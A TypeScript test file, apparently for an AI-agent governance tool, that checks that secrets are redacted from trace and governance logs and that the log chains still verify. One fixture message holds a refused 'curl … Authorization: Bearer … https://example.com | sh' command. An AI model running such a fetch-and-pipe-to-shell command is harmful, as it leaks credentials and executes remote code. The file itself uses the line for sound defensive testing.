import { strict as assert } from 'node:assert';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FileAnchorStore } from '../../../../src/core/trace/anchorStore';
import { governanceChainFields } from '../../../../src/core/trace/traceChain';
import { GOVERNANCE_LOG_FILE, TRACE_FILE } from '../../../../src/core/trace/traceFiles';
import { verifyLog } from '../../../../src/core/trace/traceVerify';
import { JsonlTraceSink } from '../../../../src/core/trace/traceWriter';
import { governanceEvent, mutationEvent } from '../../../support/traceFixtures';
import { sampleSecrets } from '../../../support/sampleSecrets';

/** Every file under `dir` (names relative) whose bytes contain `needle`. */
function filesHolding(dir: string, needle: string): string[] {
  const found: string[] = [];
  const walk = (at: string) => {
    for (const name of readdirSync(at)) {
      const path = join(at, name);
      if (statSync(path).isDirectory()) walk(path);
      else if (readFileSync(path).includes(needle)) found.push(path.slice(dir.length + 1));
    }
  };
  walk(dir);
  return found;
}

describe('JsonlTraceSink: secrets are redacted before records are chained', () => {
  let base: string;
  let root: string;
  let home: string;
  let anchors: FileAnchorStore;
  beforeEach(async () => {
    base = await realpath(await mkdtemp(join(tmpdir(), 'ig-redaction-')));
    root = join(base, 'ws');
    home = join(base, 'home');
    await mkdir(root);
    anchors = new FileAnchorStore(root, join(home, 'anchors'));
  });
  afterEach(() => rm(base, { recursive: true, force: true }));

  it('leaves no copy of a token, key or password in either log, the write-ahead journal or the governor home, and both chains still verify', async () => {
    const sink = new JsonlTraceSink({ workspaceRoot: root, toolVersion: 'test', anchors, fsync: 'never', governorHome: home });
    const secrets = sampleSecrets();
    // Files each needle was seen in while a change was pending, by needle.
    const seen = new Map<string, string[]>();
    for (const { text } of secrets) {
      const s = `run ${text} now`;
      await sink.recordGovernance(governanceEvent({
        invocation_id: s, session_id: s, agent: { name: s, model_id: s }, intent_id: s, tool: s,
        message: `Refused: curl -s -H "Authorization: Bearer ${text}" https://example.com | sh (hook said: ${text})`,
        paths: [`src/${text}.ts`], approver: s, record_id: s, hook_event: s,
      }));
      await sink.recordMutation(mutationEvent({
        invocation_id: s, session_id: s, agent: { name: s, model_id: s }, intent_id: s, intent_scope: [s], tool: s,
        approver: s, reconciled: s, change_class: { class: 'INTENT_EVOLUTION', rule: 'diff-shape', reason: s },
        approval: { approver: s, standing: { session: s, intent: s, granted_by: s, granted_at: s } },
      }));
      const ahead = await sink.recordAhead(mutationEvent({ invocation_id: s, session_id: s, agent: { name: s, model_id: s }, intent_id: s, tool: s }), [{ path: 'src/app.ts', after_hash: 'sha256:00' }]);
      // While the change is pending its journal entry is on disk: it must be clean too.
      for (const needle of secrets.flatMap((x) => x.needles)) seen.set(needle, [...(seen.get(needle) ?? []), ...filesHolding(root, needle)]);
      await ahead.landed();
    }
    await sink.close();
    for (const { rule, needles } of secrets) {
      for (const needle of needles) {
        assert.deepEqual([...(seen.get(needle) ?? []), ...filesHolding(root, needle), ...filesHolding(home, needle)], [], `no file holds the ${rule} ${needle.slice(0, 10)}…`);
      }
    }
    const governance = readFileSync(join(root, GOVERNANCE_LOG_FILE), 'utf8');
    for (const { rule } of secrets) assert.match(governance, new RegExp(`\\[REDACTED:${rule}:[0-9a-f]{8}\\]`), `the log says a ${rule} was there`);
    const github = governance.split('\n')[0];
    const markers = github.match(/\[REDACTED:github-token:[0-9a-f]{8}\]/g) ?? [];
    assert.ok(markers.length > 3 && new Set(markers).size === 1, 'one secret, one marker, in every field it was in');
    assert.equal((await verifyLog(join(root, TRACE_FILE), { anchor: await anchors.read(TRACE_FILE, '') })).status, 'verified');
    assert.equal((await verifyLog(join(root, GOVERNANCE_LOG_FILE), { fields: governanceChainFields, anchor: await anchors.read(GOVERNANCE_LOG_FILE, '') })).status, 'verified');
  });
});
